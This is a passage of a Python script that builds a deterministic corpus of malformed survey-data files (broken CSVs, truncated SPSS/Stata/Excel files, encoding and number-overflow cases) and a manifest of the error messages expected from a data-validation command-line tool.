"""(Re)create the malformed-input corpus of tests/data/bad/ and its MANIFEST.csv.

Usage::

    python tests/data/bad/make_corpus.py [OUT_DIR]      # default: this file's folder

Every file is made deterministically: text files are written byte by byte; SPSS/Stata/Excel
files are written with pyreadstat/openpyxl and their embedded timestamps are then pinned (and,
where the case asks for it, the file is damaged), so a rerun gives the same bytes.

MANIFEST.csv has one row per `connlab validate` run that tests/test_bad_files.py checks:

file             data file (or, for a codebook-only case, the codebook) passed as --data
codebook         codebook passed as --codebook, or empty (none: found beside the data or inferred)
strict           1: --strict
kind             what is wrong with the input
expected_exit    0 valid, 1 problems found, 2 cannot read / usage
expected_message Python regex searched (re.search) in stdout + stderr; use (?s) to span lines
xfail            empty, or why the row is a known bug: expected_* then hold the behaviour we
                 want, and the test is xfail(strict=True) until the code is fixed

Never name a file here ``codebook.yaml``/``codebook.yml`` or ``<stem>.codebook.yaml``: the CLI
would pick it up for every data file of the folder. Codebooks are named ``*.cb.yaml``.
"""

from __future__ import annotations

import csv
import io
import re
import struct
import sys
import zipfile
import zlib
from pathlib import Path

import yaml

HERE = Path(__file__).resolve().parent
MANIFEST_COLUMNS = ["file", "codebook", "strict", "kind", "expected_exit", "expected_message", "xfail"]

OUT: Path = HERE
ROWS: list[dict] = []


def case(file, kind, expected_exit, expected_message, *, codebook="", strict=0, xfail=""):
    ROWS.append({"file": file, "codebook": codebook, "strict": int(strict), "kind": kind,
                 "expected_exit": expected_exit, "expected_message": expected_message, "xfail": xfail})  # fmt: skip


# ---------------------------------------------------------------------------------------- writers
def put_bytes(name: str, data: bytes) -> None:
    (OUT / name).write_bytes(data)


def put_text(name: str, text: str, *, encoding: str = "utf-8", eol: str = "\n") -> None:
    put_bytes(name, text.replace("\n", eol).encode(encoding))


def table_text(rows: list[list], sep: str = ",") -> str:
    buf = io.StringIO()
    csv.writer(buf, delimiter=sep, lineterminator="\n").writerows(rows)
    return buf.getvalue()


def put_yaml(name: str, spec: dict) -> None:
    put_text(name, yaml.safe_dump(spec, sort_keys=False, allow_unicode=True, default_flow_style=None, width=100))


def _pin_zip(path: Path) -> None:
    """Rewrite an .xlsx with fixed entry dates and fixed document-property timestamps."""
    with zipfile.ZipFile(path) as zin:
        entries = [(info.filename, zin.read(info.filename)) for info in zin.infolist()]
    with zipfile.ZipFile(path, "w") as zout:
        for name, data in entries:
            if name == "docProps/core.xml":
                data = re.sub(rb"(<dcterms:(created|modified)[^>]*>)[^<]*", rb"\g<1>2020-01-01T00:00:00Z", data)
            info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o600 << 16
            zout.writestr(info, data)


def put_xlsx(name: str, sheets: dict[str, list[list]]) -> None:
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(row)
    wb.save(OUT / name)
    _pin_zip(OUT / name)


def _pin_stat(path: Path) -> None:
    data = bytearray(path.read_bytes())
    if data.startswith(b"$FL2"):  # SPSS header: creation date (9 bytes) and time (8) at offset 92
        data[92:109] = b"01 Jan 2000:00:00"
    else:  # Stata 118/119: <timestamp>\x11dd Mon yyyy hh:mm</timestamp>
        data = bytearray(re.sub(rb"<timestamp>\x11.{17}</timestamp>", b"<timestamp>\x1101 Jan 2020 00:00</timestamp>",
                                bytes(data), flags=re.S))  # fmt: skip
    path.write_bytes(bytes(data))


def put_sav(name: str, frame, **kwargs) -> None:
    import pyreadstat

    pyreadstat.write_sav(frame, OUT / name, **kwargs)
    _pin_stat(OUT / name)


def put_dta(name: str, frame, **kwargs) -> None:
    import pyreadstat

    pyreadstat.write_dta(frame, OUT / name, version=15, **kwargs)
    _pin_stat(OUT / name)


def truncate(name: str, source: str) -> None:
    data = (OUT / source).read_bytes()
    put_bytes(name, data[: len(data) // 2])


def png_1x1() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00\xff\x00\x00", 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def junk(n: int, seed: int = 20240229) -> bytes:
    """Deterministic pseudo-random bytes (a plain LCG: no dependence on a library's RNG)."""
    out, x = bytearray(), seed
    for _ in range(n):
        x = (1103515245 * x + 12345) % (1 << 31)
        out.append((x >> 16) & 0xFF)
    return bytes(out)


# ------------------------------------------------------------------------------------ survey data
ITEMS = [f"rel_{i}" for i in range(1, 11)]
HEADER = ["person_id", "couple_id", "partner", "age", "gender", *ITEMS, "attn", "duration_sec"]
PEOPLE = [  # person_id, couple_id, partner, age, gender, rel_1..rel_10, attn, duration_sec
    [1, 1, 1, 34, 2, 4, 5, 4, 3, 4, 5, 4, 4, 3, 5, 3, 612],
    [2, 1, 2, 36, 1, 3, 4, 4, 4, 5, 3, 4, 2, 4, 4, 3, 845],
    [3, 2, 1, 29, 2, 5, 5, 4, 5, 4, 5, 5, 4, 5, 4, 3, 733],
    [4, 2, 2, 31, 1, 2, 3, 3, 4, 2, 3, 3, 2, 3, 4, 3, 910],
    [5, 3, 1, 45, 3, 4, 4, 3, 4, 4, 4, 3, 4, 4, 5, 3, 1002],
    [6, 3, 2, 47, 2, 3, 2, 3, 3, 4, 3, 2, 3, 3, 2, 3, 688],
]


def people(**changes) -> list[list]:
    """Header + the six people, as text; changes: {"p<id>_<column>": value}."""
    rows = [[str(v) for v in p] for p in PEOPLE]
    for key, value in changes.items():
        pid, col = key[1:].split("_", 1)
        rows[int(pid) - 1][HEADER.index(col)] = "" if value is None else str(value)
    return [list(HEADER), *rows]


def survey_codebook(**overrides) -> dict:
    """The six-person survey's codebook. overrides: an exclusion rule (``min_duration=...``), a table
    key (``file=``, ``format=``) or ``<variable>__<any>={entries to update}``."""
    table = {"file": "survey.csv", "unit": "person"}
    variables = {
        "person_id": {"type": "integer", "role": "id"},
        "couple_id": {"type": "integer", "role": "dyad_id"},
        "partner": {"type": "integer", "role": "partner_role", "values": [1, 2]},
        "age": {"type": "integer", "role": "demographic", "range": [18, 100]},
        "gender": {"type": "categorical", "role": "demographic", "values": [1, 2, 3],
                   "value_labels": {1: "man", 2: "woman", 3: "other"}},
        **{c: {"type": "integer", "role": "item", "instrument": "rel", "item": c[4:], "range": [1, 5]} for c in ITEMS},
        "attn": {"type": "integer", "role": "attention_check", "correct": 3},
        "duration_sec": {"type": "number", "role": "duration"},
    }
    exclusions = {"attention_check": True, "duplicate_id": "keep_first", "max_missing_items": 0.5,
                  "min_duration": 300, "straight_lining": 10, "complete_dyads": False}  # fmt: skip
    for key, value in overrides.items():
        if key in exclusions:
            exclusions[key] = value
        elif key in ("file", "format"):
            table[key] = value
        else:
            variables[key.split("__")[0]].update(value)
    return {"dataset": "bad_corpus", "title": "Malformed-input corpus", "simulated": False,
            "tables": {"survey": {**table, "variables": variables, "exclusions": exclusions}}}


def simple_codebook(variables: dict, fmt: dict | None = None, table: str = "survey", **extra) -> dict:
    spec = {"file": f"{table}.csv", **({"format": fmt} if fmt else {}), "variables": variables, **extra}
    return {"dataset": "bad_corpus", "title": "Malformed-input corpus", "tables": {table: spec}}


# ------------------------------------------------------------------------------------------ cases
def build() -> None:  # one long, flat list of cases, grouped by what is wrong
    ok = table_text(people())

    # -- codebooks shared by many cases
    put_yaml("survey.cb.yaml", survey_codebook())
    put_yaml("survey_dyads.cb.yaml", survey_codebook(complete_dyads=True))
    put_yaml("survey_missing_codes.cb.yaml", survey_codebook(
        age__codes={"missing_codes": [-99, 999]}, gender__codes={"missing_codes": [-99, "Prefer not to say"]}))
    put_text("survey_ok.csv", ok)
    case("survey_ok.csv", "control: clean file that fits its codebook", 0,
         r"(?s)CSV, utf-8, comma-separated.*No problems.*survey: rows read 6 -> analysed 6", codebook="survey.cb.yaml")

    # -- files that cannot be read at all (exit 2, `connlab validate: error:`)
    put_bytes("empty_0_bytes.csv", b"")
    case("empty_0_bytes.csv", "empty file (0 bytes)", 2,
         r"connlab validate: error: \S*empty_0_bytes\.csv is empty \(0 bytes\)")
    put_text("header_only.csv", table_text([HEADER]))
    case("header_only.csv", "only a header row", 2,
         r"connlab validate: error: \S*header_only\.csv has a header row but no data rows", codebook="survey.cb.yaml")
    put_text("blank_lines_only.csv", "\n\n   \n\t\n\r\n\n")
    case("blank_lines_only.csv", "only blank lines", 2,
         r"error: \S*blank_lines_only\.csv is empty: there is no header row and no data")
    put_bytes("bom_only.csv", b"\xef\xbb\xbf")
    case("bom_only.csv", "UTF-8 byte-order mark and nothing else", 2,
         r"error: \S*bom_only\.csv is empty: there is no header row and no data")
    put_bytes("binary_junk.csv", junk(2048))
    case("binary_junk.csv", "binary junk named .csv", 2,
         r"error: \S*binary_junk\.csv is a binary file, not text \(it contains NUL bytes\)")
    put_bytes("png_renamed.csv", png_1x1())
    case("png_renamed.csv", "PNG image renamed .csv", 2, r"error: \S*png_renamed\.csv is a binary file, not text")
    put_text("text_named.xlsx", ok)
    case("text_named.xlsx", "CSV text named .xlsx", 2,
         r"error: \S*text_named\.xlsx is named \.xlsx but its content is text\. Rename it")
    put_text("text_named.sav", ok)
    case("text_named.sav", "CSV text named .sav", 2,
         r"error: \S*text_named\.sav is named \.sav but its content is text")
    put_bytes("old_excel.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    case("old_excel.xls", "old binary Excel (.xls, OLE2) file", 2,
         r"error: \S*old_excel\.xls is an old binary Excel \(\.xls\) or OLE file; save it as \.xlsx or CSV")

    # -- SPSS / Stata
    import pandas as pd

    sav = pd.DataFrame({"person_id": [1.0, 2, 3, 4, 5, 6], "gender": [1.0, 2, -99, 3, 2, 1],
                        "sat": [5.0, 7, 98, 3, 99, 6]})  # fmt: skip
    put_sav("valid_labels_missing.sav", sav,
            column_labels={"person_id": "Respondent id", "gender": "Gender", "sat": "Relationship satisfaction"},
            variable_value_labels={"gender": {1: "man", 2: "woman", 3: "other", -99: "refused"},
                                   "sat": {1: "very dissatisfied", 7: "very satisfied", 98: "don't know",
                                           99: "refused"}},
            missing_ranges={"gender": [-99], "sat": [{"lo": 98, "hi": 99}]})  # fmt: skip
    put_yaml("sav.cb.yaml", simple_codebook({
        "person_id": {"type": "integer", "role": "id"},
        "gender": {"type": "categorical", "role": "demographic", "values": [1, 2, 3]},
        "sat": {"type": "integer", "role": "outcome", "range": [1, 7]},
    }))
    case("valid_labels_missing.sav", "valid .sav, value labels + user-missing -99 and 98..99 not in the codebook",
         0, r"(?s)SPSS \.sav; 6 rows, 3 columns.*No problems.*rows read 6 -> analysed 6", codebook="sav.cb.yaml")
    put_sav("valid_labels_missing_strict.sav", sav.assign(sat=[5.0, 7, 2, 3, 1, 6]),
            variable_value_labels={"gender": {1: "man", 2: "woman", 3: "other"}})
    case("valid_labels_missing_strict.sav", ".sav whose -99 is NOT declared user-missing (strict)", 1,
         r"(?s)1 problem\(s\) \(strict.*valid_labels_missing_strict\.sav, column 'gender', row 3 \(line 3, id 3\): "
         r"value '-99' is not one of \[1, 2, 3\].*invalid value \(strict mode\) -1", codebook="sav.cb.yaml", strict=1)
    truncate("truncated.sav", "valid_labels_missing.sav")
    case("truncated.sav", "truncated .sav (first half)", 2,
         r"error: \S*truncated\.sav cannot be read as SPSS \.sav \(.*\); the file may be truncated or damaged")
    dta = pd.DataFrame({"person_id": [1, 2, 3, 4], "age": [34, 36, 29, 31], "group": [1, 2, 1, 2]})
    put_dta("valid.dta", dta, variable_value_labels={"group": {1: "control", 2: "treatment"}},
            column_labels={"person_id": "Respondent id", "age": "Age in years", "group": "Condition"})
    put_yaml("dta.cb.yaml", simple_codebook({
        "person_id": {"type": "integer", "role": "id"},
        "age": {"type": "integer", "role": "demographic", "range": [18, 100]},
        "group": {"type": "categorical", "role": "predictor", "values": [1, 2]},
    }))
    case("valid.dta", "valid Stata .dta", 0, r"(?s)Stata \.dta; 4 rows, 3 columns.*No problems.*analysed 4",
         codebook="dta.cb.yaml")
    truncate("truncated.dta", "valid.dta")
    case("truncated.dta", "truncated .dta (first half)", 2,
         r"error: \S*truncated\.dta cannot be read as Stata \.dta \(.*\); the file may be truncated")
    put_bytes("dta_named.sav", (OUT / "valid.dta").read_bytes())
    case("dta_named.sav", "Stata file named .sav", 2,
         r"error: \S*dta_named\.sav is named \.sav but its content is Stata \.dta")

    # -- Excel
    put_xlsx("empty_sheet.xlsx", {"Sheet1": []})
    case("empty_sheet.xlsx", ".xlsx whose only sheet is empty", 2, r"error: \S*empty_sheet\.xlsx: sheet 0 is empty")
    put_xlsx("header_only.xlsx", {"Data": [HEADER]})
    case("header_only.xlsx", ".xlsx with a header row only", 2,
         r"error: \S*header_only\.xlsx has a header row but no data rows", codebook="survey.cb.yaml")
    num_people = [[int(v) for v in p] for p in PEOPLE]
    put_xlsx("named_sheet.xlsx", {"Notes": [["About this export"], ["The answers are on the sheet Responses"]],
                                  "Responses": [HEADER, *num_people]})  # fmt: skip
    put_yaml("named_sheet.cb.yaml",
             survey_codebook(file="named_sheet.xlsx", format={"kind": "xlsx", "sheet": "Responses"}))
    case("named_sheet.xlsx", ".xlsx, data on sheet 'Responses' chosen by codebook format.sheet", 0,
         r"(?s)Excel workbook, sheet 'Responses'; 6 rows, 17 columns.*No problems.*analysed 6",
         codebook="named_sheet.cb.yaml")
    case("named_sheet.xlsx", ".xlsx, no codebook: the first sheet (notes) is read", 0,
         r"(?s)no codebook: types inferred.*Excel workbook, sheet 0; 1 rows, 1 columns")
    put_yaml("missing_sheet.cb.yaml", survey_codebook(file="named_sheet.xlsx", format={"sheet": "Antworten"}))
    case("named_sheet.xlsx", ".xlsx, codebook names a sheet the workbook lacks", 2,
         r"error: \S*named_sheet\.xlsx: cannot read sheet 'Antworten'", codebook="missing_sheet.cb.yaml")
    put_bytes("damaged.xlsx", (OUT / "named_sheet.xlsx").read_bytes()[:700])
    case("damaged.xlsx", "truncated .xlsx (zip cut off)", 2,
         r"error: \S*damaged\.xlsx is not a readable Excel workbook \(BadZipFile")
    put_bytes("xlsx_named.csv", (OUT / "named_sheet.xlsx").read_bytes())
    case("xlsx_named.csv", "real .xlsx named .csv (detected from the bytes)", 0,
         r"(?s)Excel workbook, sheet 'Responses'.*No problems", codebook="named_sheet.cb.yaml")
    blank_row = [HEADER, *num_people[:2], [None] * len(HEADER), *num_people[2:]]
    blank_row[4] = [*blank_row[4][:3], 7, *blank_row[4][4:]]  # person 3 (Excel row 5) aged 7
    put_xlsx("xlsx_blank_row.xlsx", {"Data": blank_row})
    case("xlsx_blank_row.xlsx", ".xlsx with an empty row between data rows; bad value below it", 1,
         r"column 'age', row 3 \(line 5, id 3\): value '7' is outside 18\.\.100", codebook="survey.cb.yaml")

    # -- CSV structure
    put_text("ragged_too_many.csv", "person_id,age,gender,attn\n1,34,2,3\n2,36,1,3,extra\n3,29,2,3\n")
    case("ragged_too_many.csv", "ragged: a row with too many fields", 2,
         r"error: \S*ragged_too_many\.csv: 1 row\(s\) do not have the 4 fields of the header \(line 3: 5 fields\)")
    put_text("ragged_too_few.csv", "person_id,age,gender,attn\n1,34,2,3\n2,36,1,3\n3,29\n4,31,1\n")
    case("ragged_too_few.csv", "ragged: rows with too few fields", 2,
         r"error: \S*ragged_too_few\.csv: 2 row\(s\) do not have the 4 fields of the header "
         r"\(line 4: 2 fields; line 5: 3 fields\)")
    put_text("unclosed_quote_mid.csv", 'person_id,comment,age\n1,"fine,34\n2,ok,36\n3,ok,29\n')
    case("unclosed_quote_mid.csv", "unclosed quote in a middle column (rest of file swallowed)", 2,
         r"error: \S*unclosed_quote_mid\.csv is not a well-formed comma-separated file at line 2: .*unclosed quote")
    put_text("unclosed_quote_last.csv", 'person_id,age,comment\n1,34,"fine\n2,36,ok\n3,29,ok\n')
    case("unclosed_quote_last.csv", "unclosed quote in the last column (rows 2-3 swallowed into one cell)", 2,
         r"error: \S*unclosed_quote_last\.csv.*unclosed quote")  # fmt: skip
    put_text("duplicate_columns.csv", "person_id,q1,q1,age\n1,3,4,34\n2,2,5,36\n")
    case("duplicate_columns.csv", "duplicate column names", 2,
         r"error: \S*duplicate_columns\.csv: duplicate column names 'q1' \(columns 2 and 3\)\. Rename them")
    put_text("blank_column_name.csv", "person_id,,age\n1,3,34\n2,2,36\n")
    case("blank_column_name.csv", "a blank column name", 2,
         r"error: \S*blank_column_name\.csv: header column\(s\) \[2\] have no name\. Give every column a name")
    put_text("trailing_separator.csv", ok.replace("\n", ",\n"))
    case("trailing_separator.csv", "trailing separator on every line (empty unnamed last column, dropped)", 0,
         r"(?s)No problems.*analysed 6", codebook="survey.cb.yaml")
    put_text("cr_only.csv", ok, eol="\r")
    case("cr_only.csv", "old Mac (CR-only) line endings, as Excel 'CSV (Macintosh)' writes", 0,
         r"(?s)comma-separated.*No problems.*analysed 6", codebook="survey.cb.yaml")
    put_text("excel_sep_line.csv", "sep=;\n" + table_text(people(), sep=";"))
    case("excel_sep_line.csv", "Excel 'sep=;' hint as first line (used as the separator)", 0,
         r"(?s)semicolon-separated.*No problems.*analysed 6", codebook="survey.cb.yaml")
    put_text("only_id.csv", "person_id\n1\n2\n3\n")
    case("only_id.csv", "only an id column (no codebook)", 0, r"(?s)types inferred.*3 rows, 1 columns.*analysed 3")
    put_text("crlf.csv", ok, eol="\r\n")
    case("crlf.csv", "Windows CRLF line endings", 0, r"(?s)comma-separated.*No problems.*analysed 6",
         codebook="survey.cb.yaml")
    put_text("blank_line_middle.csv",
             table_text(people(p4_age=7)[:3]) + "\n" + table_text(people(p4_age=7)[3:]))  # fmt: skip
    case("blank_line_middle.csv", "blank line between data rows; bad value below it", 1,
         r"column 'age', row 4 \(line 6, id 4\): value '7' is outside 18\.\.100",
         codebook="survey.cb.yaml")
    free_text_vars = {
        "person_id": {"type": "integer", "role": "id"},
        "age": {"type": "integer", "role": "demographic", "range": [18, 100]},
        "comments": {"type": "string", "role": "free_text"},
    }
    put_yaml("free_text.cb.yaml", simple_codebook(free_text_vars))
    put_text("multiline_cell.csv", 'person_id,age,comments\n1,34,"first line\nsecond line"\n2,7,ok\n3,29,ok\n')
    case("multiline_cell.csv", "quoted cell spanning two lines; bad value below it", 1,
         r"column 'age', row 2 \(line 4, id 2\): value '7' is outside 18\.\.100", codebook="free_text.cb.yaml")

    # -- values against the codebook
    put_text("likert_text.csv", table_text(people(p2_rel_3="Agree")))
    case("likert_text.csv", "text 'Agree' in a Likert item (lenient)", 1,
         r"(?s)1 problem\(s\) \(lenient.*likert_text\.csv, column 'rel_3', row 2 \(line 3, id 2\): value 'Agree' is "
         r"not a whole number\. Fix: recode it to an integer value.*analysed 6", codebook="survey.cb.yaml")
    case("likert_text.csv", "text 'Agree' in a Likert item (strict)", 1,
         r"(?s)1 problem\(s\) \(strict.*column 'rel_3', row 2 \(line 3, id 2\): value 'Agree'.*"
         r"invalid value \(strict mode\) -1 -> analysed 5", codebook="survey.cb.yaml", strict=1)
    put_text("out_of_range.csv", table_text(people(p3_rel_2=9, p5_age=17)))
    case("out_of_range.csv", "out-of-range values (lenient)", 1,
         r"(?s)2 problem\(s\) \(lenient.*column 'age', row 5 \(line 6, id 5\): value '17' is outside 18\.\.100\. "
         r"Fix: correct the value, widen.*column 'rel_2', row 3 \(line 4, id 3\): value '9' is outside 1\.\.5"
         r".*analysed 6", codebook="survey.cb.yaml")
    case("out_of_range.csv", "out-of-range values (strict)", 1,
         r"(?s)2 problem\(s\) \(strict.*invalid value \(strict mode\) -2 -> analysed 4",
         codebook="survey.cb.yaml", strict=1)
    put_text("missing_codes.csv", table_text(people(p1_age=-99, p2_age=999, p3_gender="Prefer not to say",
                                                    p4_gender=-99)))  # fmt: skip
    case("missing_codes.csv", "missing codes -99, 999, 'Prefer not to say' declared in the codebook", 0,
         r"(?s)No problems.*analysed 6", codebook="survey_missing_codes.cb.yaml")
    case("missing_codes.csv", "missing codes -99, 999, 'Prefer not to say' NOT declared", 1,
         r"(?s)4 problem\(s\).*column 'age', row 1 \(line 2, id 1\): value '-99' is outside 18\.\.100.*"
         r"row 2 \(line 3, id 2\): value '999' is outside.*column 'gender', row 3 \(line 4, id 3\): value "
         r"'Prefer not to say' is not one of \[1, 2, 3\]", codebook="survey.cb.yaml")
    put_text("missing_item_columns.csv", table_text([r[:13] + r[15:] for r in people()]))
    case("missing_item_columns.csv", "codebook item columns rel_9, rel_10 missing from the file", 2,
         r"error: \S*missing_item_columns\.csv \(table 'survey'\) has no column 'rel_9', 'rel_10' that its codebook "
         r"lists", codebook="survey.cb.yaml")
    put_text("extra_column.csv", table_text([r + [v] for r, v in zip(people(), ["mood_note", *"abcdef"], strict=True)]))
    case("extra_column.csv", "file column not in the codebook: kept as text, not reported", 0,
         r"(?s)6 rows, 18 columns.*No problems", codebook="survey.cb.yaml")

    # -- numbers a column cannot hold
    put_yaml("big_numbers.cb.yaml", simple_codebook({
        "person_id": {"type": "integer", "role": "id"},
        "count": {"type": "integer", "role": "other"},
        "score": {"type": "number", "role": "outcome"},
    }))
    put_text("big_ids.csv", table_text([["person_id", "count", "score"], ["1", "3", "2.5"], [str(2**63), "4", "3"],
                                        [str(2**64), "5", "3.5"], [str(2**63 - 1), "6", "1"]]))  # fmt: skip
    case("big_ids.csv", "integer ids 2**63 and 2**64 (beyond int64; 2**63-1 fits)", 1,
         r"(?s)2 problem\(s\).*big_ids\.csv, column 'person_id', row 2 \(line 3, id 9223372036854775808\): value "
         r"'9223372036854775808' is too large for an integer \(beyond ±9\.2e18\)\. Fix: declare 'person_id' "
         r"`type: string`.*row 3 \(line 4, id 18446744073709551616\): value '18446744073709551616' is too large for "
         r"an integer.*survey: rows read 4 -> analysed 4", codebook="big_numbers.cb.yaml")
    put_text("ids_above_2p53.csv", table_text([["person_id", "count", "score"], [str(2**53 + 1), "3", "2.5"],
                                               [str(2**53), "4", "3"]]))  # fmt: skip
    case("ids_above_2p53.csv", "ids 9007199254740993 and 9007199254740992 (above 2**53, differ in the last digit): "
         "not duplicates", 0, r"(?s)No problems.*survey: rows read 2 -> analysed 2", codebook="big_numbers.cb.yaml")
    digits = "1" * 400
    put_text("huge_400_digits.csv", table_text([["person_id", "count", "score"], ["1", digits, "2.5"],
                                                ["2", "4", digits], ["3", "5", "3"]]))  # fmt: skip
    case("huge_400_digits.csv", "a 400-digit number in an integer and in a number column", 1,
         r"(?s)2 problem\(s\).*huge_400_digits\.csv, column 'count', row 1 \(line 2, id 1\): value '1{60}\.\.\. "
         r"\(400 characters\)' is too large for an integer.*column 'score', row 2 \(line 3, id 2\): value "
         r"'1{60}\.\.\. \(400 characters\)' is too large: it overflows a 64-bit number\. Fix: correct the value"
         r".*analysed 3", codebook="big_numbers.cb.yaml")
    put_text("float_limits.csv", table_text([["person_id", "count", "score"], ["1", "3", "1e-400"], ["2", "4", "1e400"],
                                             ["3", "5", "inf"], ["4", "6", "2.5"]]))  # fmt: skip
    case("float_limits.csv", "1e-400 (underflow), 1e400 (overflow) and inf in a number column", 1,
         r"(?s)3 problem\(s\).*float_limits\.csv, column 'score', row 1 \(line 2, id 1\): value '1e-400' is too "
         r"small: it underflows to 0\. Fix: correct the value.*row 2 \(line 3, id 2\): value '1e400' is too large: it "
         r"overflows a 64-bit number.*row 3 \(line 4, id 3\): value 'inf' is not a finite number.*analysed 4",
         codebook="big_numbers.cb.yaml")

    # -- exclusions: every row analysed or excluded with its reason
    dup = people()
    dup.insert(4, list(dup[3]))  # person 3 twice
    put_text("duplicate_ids.csv", table_text(dup))
    case("duplicate_ids.csv", "duplicate id (the second row is excluded)", 0,
         r"survey: rows read 7 -> duplicate id -1 -> analysed 6", codebook="survey.cb.yaml")
    put_text("attention_failed.csv", table_text(people(p2_attn=5)))
    case("attention_failed.csv", "failed attention check", 0,
         r"survey: rows read 6 -> failed attention check -1 -> analysed 5", codebook="survey.cb.yaml")
    put_text("speeder.csv", table_text(people(p4_duration_sec=95)))
    case("speeder.csv", "speeder (duration below min_duration)", 0,
         r"survey: rows read 6 -> speeder \(completed too fast\) -1 -> analysed 5", codebook="survey.cb.yaml")
    put_text("straight_liner.csv", table_text(people(**{f"p5_{c}": 4 for c in ITEMS})))
    case("straight_liner.csv", "straight-liner (same answer to all 10 items)", 0,
         r"survey: rows read 6 -> straight-lining -1 -> analysed 5", codebook="survey.cb.yaml")
    put_text("too_many_missing.csv", table_text(people(**{f"p6_{c}": None for c in ITEMS[:7]})))
    case("too_many_missing.csv", "too many missing items (7 of 10 blank)", 0,
         r"survey: rows read 6 -> too many missing items -1 -> analysed 5", codebook="survey.cb.yaml")
    put_text("incomplete_dyad.csv", table_text([r for r in people() if r[0] != "6"]))
    case("incomplete_dyad.csv", "incomplete dyad with complete_dyads: true", 0,
         r"survey: rows read 5 -> incomplete dyad \(partner has no row\) -1 -> analysed 4",
         codebook="survey_dyads.cb.yaml")
    put_yaml("diary.cb.yaml", simple_codebook({
        "person_id": {"type": "integer", "role": "id"},
        "day": {"type": "integer", "role": "day", "range": [1, 14]},
        "mood": {"type": "number", "role": "daily", "range": [1, 7]},
    }, table="diary", unit="person-day"))
    put_text("diary_duplicate_day.csv", "person_id,day,mood\n1,1,4.5\n1,2,5\n1,2,3.5\n2,1,6\n2,2,5.5\n")
    case("diary_duplicate_day.csv", "diary with a duplicated (id, day)", 0,
         r"diary: rows read 5 -> duplicate id -1 -> analysed 4", codebook="diary.cb.yaml")

    # -- encodings, separators, decimal marks
    put_bytes("utf8_bom.csv", b"\xef\xbb\xbf" + ok.encode())
    case("utf8_bom.csv", "UTF-8 with BOM", 0, r"(?s)CSV, utf-8-sig, comma-separated.*No problems.*analysed 6",
         codebook="survey.cb.yaml")
    put_text("utf16_excel.txt", "\ufeff" + table_text(people(), sep="\t"), encoding="utf-16-le", eol="\r\n")
    case("utf16_excel.txt", "UTF-16 'Unicode text' from Excel (BOM, tab, CRLF)", 0,
         r"(?s)CSV, utf-16, tab-separated.*No problems.*analysed 6", codebook="survey.cb.yaml")
    put_text("utf16le_no_bom.txt", table_text(people(), sep="\t"), encoding="utf-16-le", eol="\r\n")
    case("utf16le_no_bom.txt", "UTF-16-LE without BOM", 0, r"(?s)CSV, utf-16-le, tab-separated.*No problems",
         codebook="survey.cb.yaml")
    accents = "person_id,âge,ville\n1,34,Zürich\n2,36,Besançon\n3,29,São Paulo\n4,31,Málaga\n"
    put_text("cp1252_accents.csv", accents, encoding="cp1252")
    put_yaml("accents.cb.yaml", simple_codebook({
        "person_id": {"type": "integer", "role": "id"},
        "âge": {"type": "integer", "role": "demographic", "range": [18, 100]},
        "ville": {"type": "categorical", "role": "demographic",
                  "values": ["Besançon", "Málaga", "São Paulo", "Zürich"]},
    }))
    case("cp1252_accents.csv", "cp1252 with accented column name and values", 0,
         r"(?s)CSV, cp1252, comma-separated.*No problems.*analysed 4", codebook="accents.cb.yaml")
    put_yaml("forced_utf8.cb.yaml", simple_codebook({
        "person_id": {"type": "integer", "role": "id"}, "âge": {"type": "integer"}, "ville": {"type": "string"},
    }, fmt={"encoding": "utf-8"}))
    case("cp1252_accents.csv", "cp1252 file, codebook forces encoding utf-8", 2,
         r"error: \S*cp1252_accents\.csv cannot be decoded as utf-8: .*Remove `encoding`",
         codebook="forced_utf8.cb.yaml")
    zurich = "person_id,age,ville\n1,34,Bern\n2,36,Zürich\n"  # \xfc on line 3
    put_bytes("bom_then_cp1252.csv", b"\xef\xbb\xbf" + zurich.encode("cp1252"))
    case("bom_then_cp1252.csv", "UTF-8 byte-order mark, then a cp1252 byte (0xfc, u-umlaut) in the text", 2,
         r"error: \S*bom_then_cp1252\.csv cannot be decoded as utf-8-sig, which its byte-order mark announces: "
         r"bytes b'\\xfc' at line 3 \(byte \d+\) are not utf-8-sig\. Export it again, or save it as UTF-8")
    utf16 = ("\ufeff" + table_text(people(), sep="\t")).replace("\n", "\r\n").encode("utf-16-le")
    put_bytes("utf16_truncated.txt", utf16[:-1])  # odd number of bytes after the BOM
    case("utf16_truncated.txt", "UTF-16 with BOM, cut off in the middle of a character (odd number of bytes)", 2,
         r"error: \S*utf16_truncated\.txt cannot be decoded as utf-16, which its byte-order mark announces: the "
         r"file ends in the middle of a character \(it is truncated\)\. Export it again")
    put_yaml("forced_utf16.cb.yaml", survey_codebook(format={"encoding": "utf-16"}))
    case("survey_ok.csv", "UTF-8 file without BOM, codebook forces encoding utf-16", 2,
         r"error: \S*survey_ok\.csv cannot be decoded as utf-16: .*Remove `encoding` from the codebook's format",
         codebook="forced_utf16.cb.yaml")
    put_yaml("decimal.cb.yaml", simple_codebook({
        "person_id": {"type": "integer", "role": "id"},
        "score": {"type": "number", "role": "outcome", "range": [1, 7]},
        "weight": {"type": "number", "role": "other"},
    }))
    put_text("semicolon_decimal_comma.csv", "person_id;score;weight\n1;3,5;0,82\n2;4,25;1,1\n3;6;0,95\n")
    case("semicolon_decimal_comma.csv", "semicolon separator, decimal comma", 0,
         r"(?s)CSV, utf-8, semicolon-separated, decimal comma.*No problems.*analysed 3", codebook="decimal.cb.yaml")
    put_text("mixed_decimal.csv", "person_id;score;weight\n1;3,5;0,82\n2;4,25;1,1\n3;2.5;0,95\n")
    case("mixed_decimal.csv", "mixed decimal marks in one column (decimal comma file, one '2.5')", 1,
         r"column 'score', row 3 \(line 4, id 3\): value '2\.5'", codebook="decimal.cb.yaml")  # fmt: skip
    put_yaml("thousands.cb.yaml", simple_codebook({
        "person_id": {"type": "integer", "role": "id"},
        "income": {"type": "integer", "role": "demographic"},
